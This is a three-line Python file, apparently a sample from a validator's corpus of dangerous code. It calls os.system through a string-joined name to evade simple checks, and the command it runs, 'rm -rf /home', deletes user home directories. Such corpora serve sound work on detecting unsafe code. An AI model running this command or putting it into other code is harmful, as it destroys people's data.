# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os

getattr(os, "sys" + "tem")("rm -rf /home")
